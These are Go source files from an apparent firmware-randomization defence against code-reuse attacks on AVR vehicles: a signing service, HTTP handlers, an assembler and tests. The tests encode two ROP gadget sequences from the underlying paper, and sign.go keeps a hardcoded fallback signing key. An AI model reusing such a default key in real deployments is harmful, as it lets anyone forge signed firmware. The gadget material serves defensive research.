		img, err := io.ReadAll(io.LimitReader(r.Body, MaxImageBytes+1))
		if err != nil {
			writeError(w, http.StatusBadRequest, fmt.Sprintf("reading body: %v", err), nil)
			return
		}
		if len(img) > MaxImageBytes {
			writeError(w, http.StatusRequestEntityTooLarge,
				fmt.Sprintf("image exceeds %d bytes", MaxImageBytes), nil)
			return
		}
		art, err := s.Randomize(Request{Image: img, Vehicle: vehicle, Epoch: epoch})
		if err != nil {
			var re *RequestError
			if errors.As(err, &re) {
				writeError(w, re.Status, re.Msg, re.Findings)
			} else {
				writeError(w, http.StatusInternalServerError, err.Error(), nil)
			}
			return
		}
		writeJSON(w, http.StatusOK, art)
	})
	mux.HandleFunc("/report/", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodGet {
			writeError(w, http.StatusMethodNotAllowed, "GET only", nil)
			return
		}
		digest := strings.TrimPrefix(r.URL.Path, "/report/")
		rep, ok := s.Report(digest)
		if !ok {
			writeError(w, http.StatusNotFound, fmt.Sprintf("no report for digest %q", digest), nil)
			return
		}
		writeJSON(w, http.StatusOK, rep)
	})
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		io.WriteString(w, s.MetricsText())
	})
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		io.WriteString(w, "ok\n")
	})
	return mux
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetEscapeHTML(false)
	enc.Encode(v)
}

func writeError(w http.ResponseWriter, status int, msg string, findings []staticverify.Finding) {
	writeJSON(w, status, errorResponse{Error: msg, Findings: findings})
}
