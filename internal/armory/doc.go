// Package armory is the fleet-scale firmware randomization and
// verification service: the production form of the MAVR defense's
// host-side half. The paper's diversity argument (§V-D, §VIII-B) only
// holds if every vehicle in a fleet flies its own permutation — one
// leaked layout must never generalize — so provisioning firmware for a
// fleet is a batch problem: randomize the same base image once per
// vehicle, statically verify every outcome before it can be flashed,
// and guarantee fleet-wide permutation uniqueness.
//
// The Service runs a fixed worker pool over a five-stage pipeline:
//
//	submit → preprocess → permute → patch → verify → sign
//
// with three pieces of shared state:
//
//   - A content-addressed base cache (cache.go): submissions are keyed
//     by the SHA-256 of their bytes, and the expensive per-base work —
//     ELF parsing, core.Preprocess, and staticverify.NewBase's CFG
//     recovery and gadget census — happens once per distinct base
//     image under a single-flight guard. Re-verification of a known
//     base takes staticverify.Base's cached fast path, an order of
//     magnitude cheaper than cold verification.
//
//   - A fleet permutation ledger (ledger.go): every issued permutation
//     is recorded per canonical base digest, and no two holders
//     (vehicle, epoch) are ever issued the same permutation of the
//     same base. Permutations derive deterministically from
//     (base digest, vehicle, epoch, attempt), so a replayed request is
//     idempotent — same artifact, re-issued, never double-counted —
//     while a digest collision with a different holder redraws with
//     the next attempt in the chain.
//
//   - An HMAC-SHA256 signer (sign.go): artifacts are signed over
//     (base digest, permutation digest, artifact digest) so the
//     flashing side — board.Master via its Provision hook — can reject
//     tampered or misrouted images without re-verifying.
//
// server.go exposes the service over HTTP (POST /randomize,
// GET /report/<digest>, GET /metrics, GET /healthz) and client.go is
// the matching client used by cmd/mavr-fleetd's -armory mode and
// cmd/mavr-randomize's client mode. cmd/mavr-armory hosts the daemon
// and a self-contained -soak mode CI uses to prove batch uniqueness.
//
// Everything outside server.go is deterministic (no wall clock, no
// global rand) and checked by the determinism vettool; the HTTP server
// file alone is wallclock-tagged.
package armory
