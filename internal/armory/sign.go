package armory

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
)

// DefaultSecret is the development signing key used when a deployment
// does not configure its own. It authenticates nothing across trust
// boundaries — it exists so the signature path is always exercised.
var DefaultSecret = []byte("mavr-armory-dev-secret")

// Sign computes the artifact signature: HMAC-SHA256 over the base,
// permutation and artifact digests. Signing digests rather than the
// image keeps signing O(1) while still binding the signature to the
// exact artifact bytes (the artifact digest covers them) and to the
// provenance the flashing side cares about: which base was randomized
// and which permutation was applied.
func Sign(secret []byte, baseDigest, permDigest, artifactDigest string) string {
	mac := hmac.New(sha256.New, secret)
	mac.Write([]byte(baseDigest))
	mac.Write([]byte{0})
	mac.Write([]byte(permDigest))
	mac.Write([]byte{0})
	mac.Write([]byte(artifactDigest))
	return hex.EncodeToString(mac.Sum(nil))
}

// VerifySignature checks a Sign output in constant time.
func VerifySignature(secret []byte, baseDigest, permDigest, artifactDigest, sig string) bool {
	want := Sign(secret, baseDigest, permDigest, artifactDigest)
	return hmac.Equal([]byte(want), []byte(sig))
}
