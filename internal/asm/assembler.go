package asm

import (
	"fmt"
	"strconv"
	"strings"

	"mavr/internal/avr"
)

// Assemble translates AVR assembly source into a flash image. It
// supports the mnemonic subset of internal/avr, labels ("name:"), line
// comments (";" or "//"), and the directives .org (word address), .dw
// and .db. Numeric operands accept 0x-prefixed hex or decimal.
func Assemble(src string) ([]byte, error) {
	a := &assembler{b: NewBuilder()}
	for lineNo, raw := range strings.Split(src, "\n") {
		if err := a.line(raw); err != nil {
			return nil, fmt.Errorf("asm: line %d: %w", lineNo+1, err)
		}
	}
	return a.b.Assemble()
}

type assembler struct {
	b *Builder
}

func (a *assembler) line(raw string) error {
	line := raw
	if i := strings.Index(line, ";"); i >= 0 {
		line = line[:i]
	}
	if i := strings.Index(line, "//"); i >= 0 {
		line = line[:i]
	}
	line = strings.TrimSpace(line)
	if line == "" {
		return nil
	}
	// Leading label(s).
	for {
		i := strings.Index(line, ":")
		if i < 0 || strings.ContainsAny(line[:i], " \t,") {
			break
		}
		a.b.Label(strings.TrimSpace(line[:i]))
		line = strings.TrimSpace(line[i+1:])
		if line == "" {
			return nil
		}
	}
	fields := strings.SplitN(line, " ", 2)
	mn := strings.ToLower(fields[0])
	var ops []string
	if len(fields) > 1 {
		for _, o := range strings.Split(fields[1], ",") {
			ops = append(ops, strings.TrimSpace(o))
		}
	}
	return a.instr(mn, ops)
}

func parseReg(s string) (int, error) {
	ls := strings.ToLower(s)
	if !strings.HasPrefix(ls, "r") {
		return 0, fmt.Errorf("expected register, got %q", s)
	}
	n, err := strconv.Atoi(ls[1:])
	if err != nil || n < 0 || n > 31 {
		return 0, fmt.Errorf("bad register %q", s)
	}
	return n, nil
}

func parseNum(s string) (int64, error) {
	n, err := strconv.ParseInt(s, 0, 64)
	if err != nil {
		return 0, fmt.Errorf("bad number %q", s)
	}
	return n, nil
}

func (a *assembler) need(ops []string, n int) error {
	if len(ops) != n {
		return fmt.Errorf("expected %d operands, got %d", n, len(ops))
	}
	return nil
}

func (a *assembler) instr(mn string, ops []string) error {
	b := a.b

	// Zero-operand instructions.
	zero := map[string]uint16{
		"nop": NOP, "ret": RET, "reti": RETI, "ijmp": IJMP, "eijmp": EIJMP,
		"icall": ICALL, "eicall": EICALL, "sleep": SLEEP, "break": BREAK,
		"wdr": WDR, "spm": SPM, "sei": SEI, "cli": CLI, "lpm": LPM, "elpm": ELPM,
	}
	if w, ok := zero[mn]; ok && len(ops) == 0 {
		b.Emit(w)
		return nil
	}

	twoReg := map[string]func(int, int) uint16{
		"add": ADD, "adc": ADC, "sub": SUB, "sbc": SBC, "and": AND,
		"or": OR, "eor": EOR, "mov": MOV, "cp": CP, "cpc": CPC,
		"cpse": CPSE, "mul": MUL,
	}
	if f, ok := twoReg[mn]; ok {
		if err := a.need(ops, 2); err != nil {
			return err
		}
		d, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		r, err := parseReg(ops[1])
		if err != nil {
			return err
		}
		b.Emit(f(d, r))
		return nil
	}

	regImm := map[string]func(int, int) uint16{
		"ldi": LDI, "cpi": CPI, "subi": SUBI, "sbci": SBCI, "ori": ORI,
		"andi": ANDI, "adiw": ADIW, "sbiw": SBIW,
	}
	if f, ok := regImm[mn]; ok {
		if err := a.need(ops, 2); err != nil {
			return err
		}
		d, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		k, err := parseNum(ops[1])
		if err != nil {
			return err
		}
		switch mn {
		case "adiw", "sbiw":
			if d != 24 && d != 26 && d != 28 && d != 30 {
				return fmt.Errorf("%s requires r24/r26/r28/r30, got r%d", mn, d)
			}
		default:
			if d < 16 {
				return fmt.Errorf("%s requires r16..r31, got r%d", mn, d)
			}
		}
		b.Emit(f(d, int(k)))
		return nil
	}

	oneReg := map[string]func(int) uint16{
		"com": COM, "neg": NEG, "swap": SWAP, "inc": INC, "dec": DEC,
		"asr": ASR, "lsr": LSR, "ror": ROR, "push": PUSH, "pop": POP,
	}
	if f, ok := oneReg[mn]; ok {
		if err := a.need(ops, 1); err != nil {
			return err
		}
		d, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		b.Emit(f(d))
		return nil
	}

	regBit := map[string]func(int, int) uint16{
		"bld": BLD, "bst": BST, "sbrc": SBRC, "sbrs": SBRS,
	}
	if f, ok := regBit[mn]; ok {
		if err := a.need(ops, 2); err != nil {
			return err
		}
		d, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		bit, err := parseNum(ops[1])
		if err != nil {
			return err
		}
		b.Emit(f(d, int(bit)))
		return nil
	}

	ioBit := map[string]func(int, int) uint16{
		"cbi": CBI, "sbi": SBI, "sbic": SBIC, "sbis": SBIS,
	}
	if f, ok := ioBit[mn]; ok {
		if err := a.need(ops, 2); err != nil {
			return err
		}
		addr, err := parseNum(ops[0])
		if err != nil {
			return err
		}
		bit, err := parseNum(ops[1])
		if err != nil {
			return err
		}
		b.Emit(f(int(addr), int(bit)))
		return nil
	}

	switch mn {
	case ".org":
		if err := a.need(ops, 1); err != nil {
			return err
		}
		n, err := parseNum(ops[0])
		if err != nil {
			return err
		}
		if uint32(n) < b.Here() {
			return fmt.Errorf(".org 0x%X behind current location 0x%X", n, b.Here())
		}
		for b.Here() < uint32(n) {
			b.Emit(0xFFFF) // erased flash
		}
		return nil
	case ".dw":
		for _, o := range ops {
			if n, err := parseNum(o); err == nil {
				b.DW(uint16(n))
			} else {
				b.DWLabel(o)
			}
		}
		return nil
	case ".db":
		var bytes []byte
		for _, o := range ops {
			n, err := parseNum(o)
			if err != nil {
				return err
			}
			bytes = append(bytes, byte(n))
		}
		if len(bytes)%2 != 0 {
			bytes = append(bytes, 0xFF)
		}
		for i := 0; i < len(bytes); i += 2 {
			b.DW(uint16(bytes[i]) | uint16(bytes[i+1])<<8)
		}
		return nil

	case "movw":
		if err := a.need(ops, 2); err != nil {
			return err
		}
		d, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		r, err := parseReg(ops[1])
		if err != nil {
			return err
		}
		b.Emit(MOVW(d, r))
		return nil

	case "in":
		if err := a.need(ops, 2); err != nil {
			return err
		}
		d, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		addr, err := parseNum(ops[1])
		if err != nil {
			return err
		}
		b.Emit(IN(d, int(addr)))
		return nil
	case "out":
		if err := a.need(ops, 2); err != nil {
			return err
		}
		addr, err := parseNum(ops[0])
		if err != nil {
			return err
		}
		r, err := parseReg(ops[1])
		if err != nil {
			return err
		}
		b.Emit(OUT(int(addr), r))
		return nil

	case "lds":
		if err := a.need(ops, 2); err != nil {
			return err
		}
		d, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		addr, err := parseNum(ops[1])
		if err != nil {
			return err
		}
		b.Emit2(LDS(d, uint16(addr)))
		return nil
	case "sts":
		if err := a.need(ops, 2); err != nil {
			return err
		}
		addr, err := parseNum(ops[0])
		if err != nil {
			return err
		}
		r, err := parseReg(ops[1])
		if err != nil {
			return err
		}
		b.Emit2(STS(uint16(addr), r))
		return nil

	case "ld", "ldd":
		if err := a.need(ops, 2); err != nil {
			return err
		}
		d, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		return a.emitIndirect(d, ops[1], false)
	case "st", "std":
		if err := a.need(ops, 2); err != nil {
			return err
		}
		r, err := parseReg(ops[1])
		if err != nil {
			return err
		}
		return a.emitIndirect(r, ops[0], true)

	case "lpm", "elpm":
		if err := a.need(ops, 2); err != nil {
			return err
		}
		d, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		m := strings.ToUpper(strings.ReplaceAll(ops[1], " ", ""))
		switch {
		case m == "Z" && mn == "lpm":
			b.Emit(LPMZ(d))
		case m == "Z+" && mn == "lpm":
			b.Emit(LPMZInc(d))
		case m == "Z" && mn == "elpm":
			b.Emit(ELPMZ(d))
		case m == "Z+" && mn == "elpm":
			b.Emit(ELPMZInc(d))
		default:
			return fmt.Errorf("bad %s addressing mode %q", mn, ops[1])
		}
		return nil

	case "jmp", "call":
		if err := a.need(ops, 1); err != nil {
			return err
		}
		emit := b.JMP
		if mn == "call" {
			emit = b.CALL
		}
		if n, err := parseNum(ops[0]); err == nil {
			// Numeric targets are byte addresses, as in GNU as and in
			// disassembly listings.
			w := JMP(uint32(n) / 2)
			if mn == "call" {
				w = CALL(uint32(n) / 2)
			}
			b.Emit2(w)
			return nil
		}
		emit(ops[0])
		return nil

	case "rjmp", "rcall":
		if err := a.need(ops, 1); err != nil {
			return err
		}
		if n, err := parseNum(ops[0]); err == nil {
			if n < -2048 || n > 2047 {
				return fmt.Errorf("%s displacement %d out of 12-bit range", mn, n)
			}
			if mn == "rjmp" {
				b.Emit(RJMP(int(n)))
			} else {
				b.Emit(RCALL(int(n)))
			}
			return nil
		}
		if mn == "rjmp" {
			b.RJMP(ops[0])
		} else {
			b.RCALL(ops[0])
		}
		return nil

	case "brbs", "brbc":
		if err := a.need(ops, 2); err != nil {
			return err
		}
		s, err := parseNum(ops[0])
		if err != nil {
			return err
		}
		if mn == "brbs" {
			b.BRBS(int(s), ops[1])
		} else {
			b.BRBC(int(s), ops[1])
		}
		return nil
	case "breq":
		if err := a.need(ops, 1); err != nil {
			return err
		}
		b.BRBS(avr.FlagZ, ops[0])
		return nil
	case "brne":
		if err := a.need(ops, 1); err != nil {
			return err
		}
		b.BRBC(avr.FlagZ, ops[0])
		return nil
	case "brcs", "brlo":
		if err := a.need(ops, 1); err != nil {
			return err
		}
		b.BRBS(avr.FlagC, ops[0])
		return nil
	case "brcc", "brsh":
		if err := a.need(ops, 1); err != nil {
			return err
		}
		b.BRBC(avr.FlagC, ops[0])
		return nil
	case "bset":
		if err := a.need(ops, 1); err != nil {
			return err
		}
		s, err := parseNum(ops[0])
		if err != nil {
			return err
		}
		b.Emit(BSET(int(s)))
		return nil
	case "bclr":
		if err := a.need(ops, 1); err != nil {
			return err
		}
		s, err := parseNum(ops[0])
		if err != nil {
			return err
		}
		b.Emit(BCLR(int(s)))
		return nil
	}
	return fmt.Errorf("unknown mnemonic %q", mn)
}

// emitIndirect handles the X/Y/Z addressing forms: "X", "X+", "-X",
// "Y", "Y+q", "Z", "Z+q", "Y+", "-Y", "Z+", "-Z".
func (a *assembler) emitIndirect(reg int, mode string, store bool) error {
	b := a.b
	m := strings.ToUpper(strings.ReplaceAll(mode, " ", ""))
	type tab struct{ load, st func(int) uint16 }
	fixed := map[string]tab{
		"X":  {LDX, STX},
		"X+": {LDXInc, STXInc},
		"-X": {LDXDec, STXDec},
		"Y+": {LDYInc, STYInc},
		"-Y": {LDYDec, STYDec},
		"Z+": {LDZInc, STZInc},
		"-Z": {LDZDec, STZDec},
	}
	if t, ok := fixed[m]; ok {
		if store {
			b.Emit(t.st(reg))
		} else {
			b.Emit(t.load(reg))
		}
		return nil
	}
	// Displacement forms (q may be 0: plain "Y"/"Z").
	var useY bool
	switch {
	case strings.HasPrefix(m, "Y"):
		useY = true
	case strings.HasPrefix(m, "Z"):
	default:
		return fmt.Errorf("bad addressing mode %q", mode)
	}
	q := 0
	if rest := m[1:]; rest != "" {
		if !strings.HasPrefix(rest, "+") {
			return fmt.Errorf("bad addressing mode %q", mode)
		}
		n, err := parseNum(rest[1:])
		if err != nil {
			return err
		}
		q = int(n)
	}
	if q < 0 || q > 63 {
		return fmt.Errorf("displacement %d out of range", q)
	}
	switch {
	case store && useY:
		b.Emit(STDY(q, reg))
	case store:
		b.Emit(STDZ(q, reg))
	case useY:
		b.Emit(LDDY(reg, q))
	default:
		b.Emit(LDDZ(reg, q))
	}
	return nil
}
