package asm_test

import (
	"math/rand"
	"strings"
	"testing"
	"testing/quick"

	"mavr/internal/asm"
	"mavr/internal/avr"
)

func decode1(w uint16) avr.Instr    { return avr.Decode(w, 0) }
func decode2(w [2]uint16) avr.Instr { return avr.Decode(w[0], w[1]) }

func TestEncodeDecodeTwoRegister(t *testing.T) {
	tests := []struct {
		name string
		enc  func(d, r int) uint16
		op   avr.Op
	}{
		{"add", asm.ADD, avr.OpADD},
		{"adc", asm.ADC, avr.OpADC},
		{"sub", asm.SUB, avr.OpSUB},
		{"sbc", asm.SBC, avr.OpSBC},
		{"and", asm.AND, avr.OpAND},
		{"or", asm.OR, avr.OpOR},
		{"eor", asm.EOR, avr.OpEOR},
		{"mov", asm.MOV, avr.OpMOV},
		{"cp", asm.CP, avr.OpCP},
		{"cpc", asm.CPC, avr.OpCPC},
		{"cpse", asm.CPSE, avr.OpCPSE},
		{"mul", asm.MUL, avr.OpMUL},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := func(d, r uint8) bool {
				di, ri := int(d%32), int(r%32)
				in := decode1(tt.enc(di, ri))
				return in.Op == tt.op && in.D == di && in.R == ri
			}
			if err := quick.Check(f, nil); err != nil {
				t.Error(err)
			}
		})
	}
}

func TestEncodeDecodeImmediates(t *testing.T) {
	tests := []struct {
		name string
		enc  func(d, k int) uint16
		op   avr.Op
	}{
		{"ldi", asm.LDI, avr.OpLDI},
		{"cpi", asm.CPI, avr.OpCPI},
		{"subi", asm.SUBI, avr.OpSUBI},
		{"sbci", asm.SBCI, avr.OpSBCI},
		{"ori", asm.ORI, avr.OpORI},
		{"andi", asm.ANDI, avr.OpANDI},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := func(d, k uint8) bool {
				di := 16 + int(d%16)
				in := decode1(tt.enc(di, int(k)))
				return in.Op == tt.op && in.D == di && in.K == int(k)
			}
			if err := quick.Check(f, nil); err != nil {
				t.Error(err)
			}
		})
	}
}

func TestEncodeDecodeDisplacement(t *testing.T) {
	f := func(d, q uint8) bool {
		di, qi := int(d%32), int(q%64)
		ldy := decode2([2]uint16{asm.LDDY(di, qi), 0})
		sty := decode2([2]uint16{asm.STDY(qi, di), 0})
		ldz := decode2([2]uint16{asm.LDDZ(di, qi), 0})
		stz := decode2([2]uint16{asm.STDZ(qi, di), 0})
		return ldy.Op == avr.OpLDDY && ldy.D == di && ldy.Q == qi &&
			sty.Op == avr.OpSTDY && sty.D == di && sty.Q == qi &&
			ldz.Op == avr.OpLDDZ && ldz.D == di && ldz.Q == qi &&
			stz.Op == avr.OpSTDZ && stz.D == di && stz.Q == qi
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestEncodeDecodeJmpCall(t *testing.T) {
	f := func(target uint32) bool {
		tgt := target % avr.FlashWords
		j := decode2(asm.JMP(tgt))
		c := decode2(asm.CALL(tgt))
		return j.Op == avr.OpJMP && j.Target == tgt && j.Words == 2 &&
			c.Op == avr.OpCALL && c.Target == tgt && c.Words == 2
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestEncodeDecodeRelative(t *testing.T) {
	f := func(k int16) bool {
		kk := int(k % 2048)
		rj := decode1(asm.RJMP(kk))
		rc := decode1(asm.RCALL(kk))
		return rj.Op == avr.OpRJMP && rj.K == kk &&
			rc.Op == avr.OpRCALL && rc.K == kk
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestEncodeDecodeBranches(t *testing.T) {
	f := func(s uint8, k int8) bool {
		si := int(s % 8)
		ki := int(k % 64)
		bs := decode1(asm.BRBS(si, ki))
		bc := decode1(asm.BRBC(si, ki))
		return bs.Op == avr.OpBRBS && bs.D == si && bs.K == ki &&
			bc.Op == avr.OpBRBC && bc.D == si && bc.K == ki
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestEncodeDecodeInOut(t *testing.T) {
	f := func(d, a uint8) bool {
		di, ai := int(d%32), int(a%64)
		i := decode1(asm.IN(di, ai))
		o := decode1(asm.OUT(ai, di))
		return i.Op == avr.OpIN && i.D == di && i.A == ai &&
			o.Op == avr.OpOUT && o.D == di && o.A == ai
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestEncodeDecodeLdsSts(t *testing.T) {
	f := func(d uint8, addr uint16) bool {
		di := int(d % 32)
		l := decode2(asm.LDS(di, addr))
		s := decode2(asm.STS(addr, di))
		return l.Op == avr.OpLDS && l.D == di && l.Target == uint32(addr) && l.Words == 2 &&
			s.Op == avr.OpSTS && s.D == di && s.Target == uint32(addr) && s.Words == 2
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestEncodeDecodePushPop(t *testing.T) {
	for d := 0; d < 32; d++ {
		if in := decode1(asm.PUSH(d)); in.Op != avr.OpPUSH || in.D != d {
			t.Errorf("push r%d decoded as %v r%d", d, in.Op, in.D)
		}
		if in := decode1(asm.POP(d)); in.Op != avr.OpPOP || in.D != d {
			t.Errorf("pop r%d decoded as %v r%d", d, in.Op, in.D)
		}
	}
}

func TestEncodeDecodeOneOperand(t *testing.T) {
	tests := []struct {
		enc func(int) uint16
		op  avr.Op
	}{
		{asm.COM, avr.OpCOM}, {asm.NEG, avr.OpNEG}, {asm.SWAP, avr.OpSWAP},
		{asm.INC, avr.OpINC}, {asm.DEC, avr.OpDEC}, {asm.ASR, avr.OpASR},
		{asm.LSR, avr.OpLSR}, {asm.ROR, avr.OpROR},
	}
	for _, tt := range tests {
		for d := 0; d < 32; d++ {
			if in := decode1(tt.enc(d)); in.Op != tt.op || in.D != d {
				t.Errorf("%v r%d decoded as %v r%d", tt.op, d, in.Op, in.D)
			}
		}
	}
}

func TestEncodeDecodeZeroOperand(t *testing.T) {
	tests := map[uint16]avr.Op{
		asm.NOP: avr.OpNOP, asm.RET: avr.OpRET, asm.RETI: avr.OpRETI,
		asm.IJMP: avr.OpIJMP, asm.EIJMP: avr.OpEIJMP, asm.ICALL: avr.OpICALL,
		asm.EICALL: avr.OpEICALL, asm.SLEEP: avr.OpSLEEP, asm.BREAK: avr.OpBREAK,
		asm.WDR: avr.OpWDR, asm.LPM: avr.OpLPM, asm.ELPM: avr.OpELPM,
		asm.SPM: avr.OpSPM,
	}
	for w, op := range tests {
		if in := decode1(w); in.Op != op {
			t.Errorf("0x%04X decoded as %v, want %v", w, in.Op, op)
		}
	}
	// SEI/CLI are bset/bclr of the I flag.
	if in := decode1(asm.SEI); in.Op != avr.OpBSET || in.D != avr.FlagI {
		t.Errorf("sei decoded as %v %d", in.Op, in.D)
	}
	if in := decode1(asm.CLI); in.Op != avr.OpBCLR || in.D != avr.FlagI {
		t.Errorf("cli decoded as %v %d", in.Op, in.D)
	}
}

// The paper's Fig. 4 stk_move gadget must encode to the documented
// instruction sequence and round-trip through the disassembler.
func TestStkMoveGadgetRoundTrip(t *testing.T) {
	src := `
	gadget:
		out 0x3e, r29
		out 0x3f, r0
		out 0x3d, r28
		pop r28
		pop r29
		pop r16
		ret
	`
	img, err := asm.Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	wantOps := []avr.Op{avr.OpOUT, avr.OpOUT, avr.OpOUT, avr.OpPOP, avr.OpPOP, avr.OpPOP, avr.OpRET}
	pc := uint32(0)
	for i, want := range wantOps {
		in := avr.DecodeAt(img, pc)
		if in.Op != want {
			t.Fatalf("instr %d: got %v, want %v", i, in.Op, want)
		}
		pc += uint32(in.Words)
	}
	dis := asm.Disassemble(img, 0, len(wantOps))
	for _, want := range []string{"out 0x3e, r29", "out 0x3d, r28", "pop r16", "ret"} {
		if !strings.Contains(dis, want) {
			t.Errorf("disassembly missing %q:\n%s", want, dis)
		}
	}
}

// The paper's Fig. 5 write_mem_gadget.
func TestWriteMemGadgetRoundTrip(t *testing.T) {
	src := `
	gadget:
		std Y+1, r5
		std Y+2, r6
		std Y+3, r7
		pop r29
		pop r28
		pop r17
		pop r16
		pop r15
		pop r14
		pop r13
		pop r12
		pop r11
		pop r10
		pop r9
		pop r8
		pop r7
		pop r6
		pop r5
		pop r4
		ret
	`
	img, err := asm.Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	dis := asm.Disassemble(img, 0, 20)
	for _, want := range []string{"std Y+1, r5", "std Y+2, r6", "std Y+3, r7", "pop r4", "ret"} {
		if !strings.Contains(dis, want) {
			t.Errorf("disassembly missing %q:\n%s", want, dis)
		}
	}
}

func TestBuilderLabelsAndFixups(t *testing.T) {
	b := asm.NewBuilder()
	b.JMP("main")
	b.Label("sub")
	b.Emit(asm.LDI(16, 1))
	b.Emit(asm.RET)
	b.Label("main")
	b.CALL("sub")
	b.RJMP("main")
	img, err := b.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	main, ok := b.LabelAddr("main")
	if !ok {
		t.Fatal("main label missing")
	}
	in := avr.DecodeAt(img, 0)
	if in.Op != avr.OpJMP || in.Target != main {
		t.Errorf("jmp decoded to %v target 0x%X, want jmp 0x%X", in.Op, in.Target, main)
	}
	callIn := avr.DecodeAt(img, main)
	sub, _ := b.LabelAddr("sub")
	if callIn.Op != avr.OpCALL || callIn.Target != sub {
		t.Errorf("call decoded to %v target 0x%X, want call 0x%X", callIn.Op, callIn.Target, sub)
	}
	rj := avr.DecodeAt(img, main+2)
	if rj.Op != avr.OpRJMP || int64(main+2)+1+int64(rj.K) != int64(main) {
		t.Errorf("rjmp back to main mis-encoded (K=%d)", rj.K)
	}
}

func TestBuilderUndefinedLabel(t *testing.T) {
	b := asm.NewBuilder()
	b.JMP("nowhere")
	if _, err := b.Assemble(); err == nil {
		t.Error("expected error for undefined label")
	}
}

func TestBuilderDuplicateLabel(t *testing.T) {
	b := asm.NewBuilder()
	b.Label("x")
	b.Label("x")
	if _, err := b.Assemble(); err == nil {
		t.Error("expected error for duplicate label")
	}
}

func TestBuilderBranchOutOfRange(t *testing.T) {
	b := asm.NewBuilder()
	b.BRBS(1, "far")
	for i := 0; i < 100; i++ {
		b.Emit(asm.NOP)
	}
	b.Label("far")
	if _, err := b.Assemble(); err == nil {
		t.Error("expected out-of-range error for 7-bit branch over 100 words")
	}
}

func TestBuilderDWLabel(t *testing.T) {
	b := asm.NewBuilder()
	b.Emit(asm.NOP)
	b.DWLabel("fn")
	b.Label("fn")
	b.Emit(asm.RET)
	img, err := b.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	fn, _ := b.LabelAddr("fn")
	got := uint16(img[2]) | uint16(img[3])<<8
	if uint32(got) != fn {
		t.Errorf("dw label = 0x%04X, want 0x%X", got, fn)
	}
}

func TestAssemblerErrors(t *testing.T) {
	cases := []string{
		"bogus r1, r2",
		"ldi r5, 3",                         // ldi needs r16..r31
		"adiw r23, 1",                       // adiw needs r24/26/28/30
		"ld r16, Q+1",                       // bad pointer
		"ldi r16",                           // missing operand
		"ldi r16, zzz",                      // bad number
		".org 0x2\nnop\nnop\nnop\n.org 0x1", // org backwards
	}
	for _, src := range cases {
		if _, err := asm.Assemble(src); err == nil {
			t.Errorf("no error for %q", src)
		}
	}
}

func TestAssembleOrgAndData(t *testing.T) {
	img, err := asm.Assemble(`
		nop
	.org 0x4
	data:
		.dw 0xBEEF
		.db 0x01, 0x02
	`)
	if err != nil {
		t.Fatal(err)
	}
	if len(img) != 0x4*2+4 {
		t.Fatalf("image length = %d", len(img))
	}
	if img[8] != 0xEF || img[9] != 0xBE {
		t.Errorf("dw mis-encoded: % X", img[8:10])
	}
	if img[10] != 0x01 || img[11] != 0x02 {
		t.Errorf("db mis-encoded: % X", img[10:12])
	}
}

// Fuzz-ish: decoding arbitrary words never panics and always yields a
// plausible word count.
func TestDecodeNeverPanics(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < 20000; i++ {
		w0 := uint16(rng.Intn(0x10000))
		in := avr.Decode(w0, uint16(rng.Intn(0x10000)))
		if in.Words != 1 && in.Words != 2 {
			t.Fatalf("decode(0x%04X) produced Words=%d", w0, in.Words)
		}
		if got := avr.InstrWords(w0); got != in.Words && in.Op != avr.OpInvalid {
			t.Fatalf("InstrWords(0x%04X)=%d but decode says %d (%v)", w0, got, in.Words, in.Op)
		}
	}
}

// Executing any single random instruction on a fresh CPU must never
// panic (it may fault).
func TestExecNeverPanics(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	for i := 0; i < 5000; i++ {
		c := avr.New()
		img := []byte{byte(rng.Intn(256)), byte(rng.Intn(256)), byte(rng.Intn(256)), byte(rng.Intn(256))}
		if err := c.LoadFlash(img); err != nil {
			t.Fatal(err)
		}
		_ = c.Step()
	}
}
