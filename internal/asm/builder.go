package asm

import (
	"fmt"
	"sort"
)

type fixupKind int

const (
	fixAbs22    fixupKind = iota + 1 // jmp/call: patch both words
	fixRel12                         // rjmp/rcall: 12-bit signed word offset
	fixRel7                          // brbs/brbc: 7-bit signed word offset
	fixWordAddr                      // .dw label: 16-bit word address of label
	fixLDI                           // ldi reg, byte of label address
)

type fixup struct {
	at    uint32 // word index of the instruction's first word
	label string
	kind  fixupKind

	// fixLDI only:
	reg      int
	shift    uint
	byteAddr bool
}

// Builder assembles a program incrementally, resolving label references
// in a final pass. The zero value is ready to use.
type Builder struct {
	words  []uint16
	labels map[string]uint32
	fixups []fixup
	errs   []error
}

// NewBuilder returns an empty Builder.
func NewBuilder() *Builder {
	return &Builder{labels: make(map[string]uint32)}
}

// Here returns the current location as a word address.
